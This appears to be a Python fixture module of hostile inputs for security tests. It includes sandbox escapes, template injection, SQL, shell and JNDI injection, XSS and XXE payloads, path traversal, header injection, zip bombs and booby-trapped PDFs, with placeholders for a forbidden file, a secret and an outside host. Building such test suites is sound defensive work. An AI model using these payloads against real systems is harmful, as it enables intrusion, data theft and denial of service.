"""What an attacker writes where an expression, a template, a name or a text is expected: one table for every door.

`@OUT@` stands for a file that must never come to be, `@SECRET@` for one that must never be read, `@NET@` for an address that must never be called."""
from __future__ import annotations

import io
import struct
import zipfile
import zlib

LONG = 'a' * 44
PYTHON = {
    "system": "__import__('os').system('touch @OUT@')",
    "eval of a text": "eval(\"__import__('os').system('touch @OUT@')\")",
    "exec of a text": "exec(\"open('@OUT@', 'w')\")",
    "open to write": "open('@OUT@', 'w').write('x')",
    "open to read": "open('@SECRET@').read()",
    "all classes": "().__class__.__base__.__subclasses__()",
    "a class that starts programs": "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'Popen'][0](['touch', '@OUT@'])",
    "globals of a function": "(lambda: 0).__globals__['__builtins__']['open']('@OUT@', 'w')",
    "an f-string": "f\"{open('@SECRET@').read()}\"",
    "statements": "import os; os.remove('@SECRET@')",
    "debugger": "breakpoint()",
    "object in YAML": "!!python/object/apply:os.system [\"touch @OUT@\"]",
    "pickle": "cos\nsystem\n(S'touch @OUT@'\ntR.",
    "codec in a comment": "# -*- coding: rot13 -*-\nvzcbeg bf",
}
FORMATS = {
    "format of a class": "{0.__class__.__init__.__globals__}", "format by name": "{case.__class__.__mro__}", "format of a link": "{link.__class__}{0}{}",
    "percent signs": "%s%s%n%x%(os)s%", "JNDI": "${jndi:ldap://@NET@/a}", "shell": "$(touch @OUT@)", "backticks": "`touch @OUT@`",
    "pipe": "| touch @OUT@ ; &", "LDAP": "*)(uid=*))(|(uid=*", "SQL": "' OR 1=1 --", "stacked SQL": "'); DROP TABLE trail; --",
    "SQL pattern": "%_%' ESCAPE '\\", "spreadsheet": "=cmd|' /C touch @OUT@'!A0", "spreadsheet link": "=HYPERLINK(\"http://@NET@/\", \"x\")",
}
TEMPLATES = {
    "sum in braces": "{{7*7}}", "classes in braces": "{{ ''.__class__.__mro__[1].__subclasses__() }}", "settings in braces": "{{ config.items() }}",
    "program in braces": "{{ cycler.__init__.__globals__.os.popen('touch @OUT@').read() }}", "statement": "{% import os %}{{ os.system('touch @OUT@') }}",
    "loop": "{% for x in range(999999999) %}{{ x }}{% endfor %}", "ERB": "<%= system('touch @OUT@') %>", "dollar": "${7*7}#{7*7}*{7*7}",
    "Java": "${T(java.lang.Runtime).getRuntime().exec('touch @OUT@')}", "constructor in braces": "{{constructor.constructor('return 1')()}}",
    "prototype in braces": "{{ get value(case, \"__proto__\") }}", "open if": "{{#if true}}", "crossed": "{{#for x in [1]}}{{#if x}}{{/for}}{{/if}}",
    "nested braces": "{{{{{{}}}}}}", "many ifs": "{{#if true}}" * 400, "typesetter reads": "#read(\"@SECRET@\") #include \"@SECRET@\"",
    "typesetter runs": "#eval(\"1 + 1\") #import \"@preview/cetz:0.2.0\": *", "LaTeX": "\\input{@SECRET@}\\write18{touch @OUT@}",
}
JAVASCRIPT = {
    "function of a text": "constructor.constructor(\"return globalThis\")()", "Function": "new Function(\"return 1\")()",
    "child process": "globalThis.process.mainModule.require('child_process').execSync('touch @OUT@')",
    "require": "require(\"fs\").writeFileSync(\"@OUT@\", \"x\")",
    "endless": "(function(){while(true){}})()", "import": "import(\"http://@NET@/x.js\")", "fetch": "fetch(\"http://@NET@/\")",
    "prototype": "__proto__.polluted = 1", "prototype as JSON": '{"__proto__": {"polluted": 1}}',
    "constructor as JSON": '{"constructor": {"prototype": {"polluted": 1}}}', "end of the call": "\");globalThis.x=1;(\"", "template text": "`${globalThis}`",
    "assembly": "WebAssembly.compile(new Uint8Array(8))",
}
FEEL = {
    "external function": "function(x) external {java: {class: \"java.lang.Runtime\", method signature: \"exec(String)\"}}",
    "function of itself": "{f: function(g) g(g), r: f(f)}.r", "prototype by a path": "context put({}, [\"__proto__\", \"polluted\"], 1)",
    "constructor of a value": "get value(today(), \"constructor\")", "half a sentence": "if true then", "deep brackets": "(" * 3000 + "1" + ")" * 3000,
    "deep lists": "[" * 3000 + "]" * 3000, "deep names": "a" + ".b" * 3000, "huge number": "9" * 400, "beyond numbers": "1e309 * -1e309", "not a number": "NaN",
    "a list for a text": "[1, [2, {a: null}]]", "long name": "x" * 30_000, "for ever and ever": "P999999999Y", "backwards": "-PT1H",
    "cycle without a rest": "R/PT0.0000001S", "last of days": "9999-12-31T23:59:59+14:00", "day nought": "0000-00-00",
}
#: What burns time or memory until it is stopped.
COSTLY: dict[str, str] = {"every number": "every x in 1..1000000000 satisfies true", "pattern": f"matches(\"{LONG}!\", \"^(a+)+$\")"}
PATHS = {
    "upwards": "../../../../../../@SECRET@", "upwards on Windows": "..\\..\\..\\windows\\win.ini", "file": "file://@SECRET@", "whole path": "@OUT@",
    "environment": "/proc/self/environ", "device": "/dev/zero", "share": "\\\\@NET@\\share\\x", "encoded": "%2e%2e%2f%00@SECRET@",
}
MARKUP = {
    "script": "<script>window.attacked=1</script>", "image": "<img src=x onerror=window.attacked=1>", "drawing": "<svg/onload=window.attacked=1>",
    "end of an attribute": "\" autofocus onfocus=\"window.attacked=1", "script as a link": "[x](javascript:window.attacked=1)",
    "picture from elsewhere": "![y](http://@NET@/pixel)", "frame": "<iframe srcdoc='<script>top.attacked=1</script>'>",
    "style": "<style>@import 'http://@NET@/'</style>",
    "end of a script": "--></script><script>window.attacked=1</script>", "end of a section": "]]><x/>", "base": "<base href=http://@NET@/>",
    "entity": "<!DOCTYPE x [<!ENTITY e SYSTEM \"file://@SECRET@\">]><x>&e;</x>",
    "entity of an entity": "<!DOCTYPE x [<!ENTITY % p SYSTEM \"http://@NET@/\"> %p;]>",
    "inclusion": "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"file://@SECRET@\" parse=\"text\"/>",
    "stylesheet": "<?xml-stylesheet href=\"http://@NET@/x.xsl\"?>", "form": "<form action=http://@NET@/><button>Go",
    "refresh": "<meta http-equiv=refresh content=0;url=//@NET@>",
}
LETTERS = {
    "mail header": "x\r\nBcc: all@else.example\r\n\r\nAnother body", "answer header": "x\r\nSet-Cookie: session=evil",
    "line of the log": "x\n{\"event\": \"forged\"}",
    "null byte": "a\x00b", "half a character": "\ud800", "right to left": "\u202egpj.exe", "isolates": "\u2066a\u2069\u200b\u200f", "byte order": "\ufeffx",
    "no characters": "\ufffe\uffff", "line separators": "\u2028a\u2029b", "marks on marks": "a" + "\u0301" * 500, "beyond the plane": "\U0001d54a" * 100,
    "terminal": "\x1b[31mred\x1b]0;title\x07", "control": "\x7f\x08\x08\x1a", "nothing to see": "\u200b\u00a0\u3000", "dotted": "İıßﬁ",
    "TOML": "x\"\n[roles.administrator]\nscope = \"board\"",
    "JSON": "\", \"type\": \"html\", \"content\": \"<script>window.attacked=1</script>",
}
#: For what is read as an expression, and for what is read as words.
CODE = PYTHON | TEMPLATES | JAVASCRIPT | FEEL | COSTLY
WORDS = FORMATS | TEMPLATES | PATHS | MARKUP | LETTERS
TEXTS: dict[str, str] = CODE | WORDS

_LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
#: Whole documents, for whatever reads XML; %s is where the harmless document goes.
XML = {
    "billion laughs": f'<!DOCTYPE d [<!ENTITY l0 "lol">{_LAUGHS}]><d>&l9;</d>%s',
    "quadratic": f'<!DOCTYPE d [<!ENTITY a "{"a" * 50_000}">]><d>{"&a;" * 5000}</d>',
    "file as an entity": '<!DOCTYPE d [<!ENTITY e SYSTEM "file://@SECRET@">]><d>&e;</d>',
    "net as an entity": '<!DOCTYPE d [<!ENTITY e SYSTEM "http://@NET@/e">]><d>&e;</d>',
    "parameter entity": '<!DOCTYPE d [<!ENTITY % p SYSTEM "http://@NET@/p.dtd"> %p;]><d/>', "type from the net": '<!DOCTYPE d SYSTEM "http://@NET@/d.dtd"><d/>',
    "public type": '<!DOCTYPE d PUBLIC "-//X//EN" "http://@NET@/d.dtd"><d/>',
    "schema": '<d xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://x http://@NET@/x.xsd"/>',
    "inclusion": '<d xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file://@SECRET@" parse="text"/></d>',
    "instruction": '<?xml-stylesheet type="text/xsl" href="http://@NET@/x.xsl"?><d/>', "program": "<?php system('touch @OUT@') ?><d/>",
    "deep": "<d>" * 100_000, "wide": "<d>" + "<a/>" * 300_000 + "</d>", "attributes": "<d " + " ".join(f'a{n}="1"' for n in range(50_000)) + "/>",
    "long name": f"<{'d' * 300_000}/>", "one long text": f"<d>{'x' * 3_000_000}</d>",
    "another alphabet": '<?xml version="1.0" encoding="UTF-7"?><d>+ADw-script+AD4-</d>',
    "half": "<d><a>", "nothing": "", "null byte": "<d>\x00</d>", "character beyond": "<d>&#xFFFFFFFF;&#0;</d>",
    "namespaces": "".join(f'<d xmlns:n{n}="x">' for n in range(3000)),
}


def archive(parts: dict[str, bytes], kind: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A zip with these parts, whatever they are called."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", kind) as written:
        for name, content in parts.items():
            written.writestr(zipfile.ZipInfo(name), content, kind)
    return buffer.getvalue()


def _lying(content: bytes, size: int) -> bytes:
    """The same zip, whose list of contents says that each part is this big."""
    found, at = bytearray(content), -1
    while (at := content.find(b"PK\x01\x02", at + 1)) >= 0:
        found[at + 24:at + 28] = struct.pack("<I", size)
    while (at := content.find(b"PK\x03\x04", at + 1)) >= 0:
        found[at + 22:at + 26] = struct.pack("<I", size)
    return bytes(found)


def _pdf(*objects: str, root: str = "/Type /Catalog /Pages 2 0 R") -> bytes:
    body = [f"<< {root} >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>", "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>", *objects]
    out, places = b"%PDF-1.7\n", []
    for number, each in enumerate(body, 1):
        places.append(len(out))
        out += f"{number} 0 obj\n".encode() + each.encode("latin-1") + b"\nendobj\n"
    table = "".join(f"{place:010} 00000 n \n" for place in places)
    return out + f"xref\n0 {len(body) + 1}\n0000000000 65535 f \n{table}trailer << /Root 1 0 R /Size {len(body) + 1} >>\nstartxref\n{len(out)}\n%%EOF".encode()


def _stream(content: bytes) -> str:
    packed = zlib.compress(content, 9).decode("latin-1")
    return f"<< /Length {len(packed)} /Filter /FlateDecode >>\nstream\n{packed}\nendstream"


WORD = '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Fine</w:t></w:r></w:p></w:body></w:document>'
_LINKS = "http://schemas.openxmlformats.org/package/2006/relationships"


def files() -> dict[str, bytes]:
    """Files as people hand them in. Made when they are needed: some are big."""
    bomb = archive({"word/document.xml": b"<d>" + b" " * 60_000_000 + b"</d>"})
    return {
        **{f"Word with {name}": archive({"word/document.xml": text.replace("%s", WORD).encode()}) for name, text in XML.items()},
        "Word that unpacks": bomb, "Word that lies about its size": _lying(bomb, 100),
        "zips in a zip": archive({f"word/{n}.zip": bomb for n in range(20)}, zipfile.ZIP_STORED),
        "zip with a way up": archive({"../../../../@OUT@": b"x", "/@OUT@": b"x", "word/document.xml": WORD.encode()}),
        "zip with one name twice": archive({"word/document.xml": WORD.encode()}) + archive({"word/document.xml": b"<other/>"}),
        "Word with a template from the net": archive({"word/document.xml": WORD.encode(), "word/_rels/settings.xml.rels": (
            f'<Relationships xmlns="{_LINKS}"><Relationship Id="r" Type="attachedTemplate" Target="http://@NET@/t.dotm" TargetMode="External"/>'
            "</Relationships>").encode()}),
        "Word with macros": archive({"word/document.xml": WORD.encode(), "word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}),
        "zip cut off": bomb[:-30], "zip without an end": b"PK\x03\x04" + b"\x00" * 40, "sheet": archive({"xl/workbook.xml": XML["file as an entity"].encode()}),
        "PDF with a script": _pdf("<< /S /JavaScript /JS (app.launchURL\\('http://@NET@/'\\)) >>",
                                  root="/Type /Catalog /Pages 2 0 R /OpenAction 4 0 R /AA << /WC 4 0 R >>"),
        "PDF that starts a program": _pdf("<< /S /Launch /F (touch @OUT@) >>", root="/Type /Catalog /Pages 2 0 R /OpenAction 4 0 R"),
        "PDF that names a file": _pdf("<< /Type /Filespec /F (file://@SECRET@) >>", root="/Type /Catalog /Pages 2 0 R /AF [4 0 R]"),
        "PDF whose pages are each other's": _pdf().replace(b"/Kids [3 0 R]", b"/Kids [2 0 R]"),
        "PDF that is its own root": _pdf(root="/Type /Catalog /Pages 1 0 R /Kids [1 0 R]"),
        "PDF that unpacks": _pdf(_stream(b"\x00" * 80_000_000), root="/Type /Catalog /Pages 2 0 R /Metadata 4 0 R"),
        "PDF with deep lists": _pdf("[" * 20_000 + "]" * 20_000, root="/Type /Catalog /Pages 2 0 R /Names 4 0 R"),
        "PDF with far too many pages": _pdf().replace(b"/Count 1", b"/Count 999999999"), "PDF cut off": _pdf()[:120], "PDF and nothing": b"%PDF-1.7",
        "PDF whose table is a ring": _pdf().replace(b"/Size", b"/Prev 9 /Size"), "page": b"<html><script>window.attacked=1</script>",
        "drawing": b'<svg xmlns="http://www.w3.org/2000/svg" onload="window.attacked=1"/>', "program": b"MZ\x90\x00", "nothing": b"",
    }
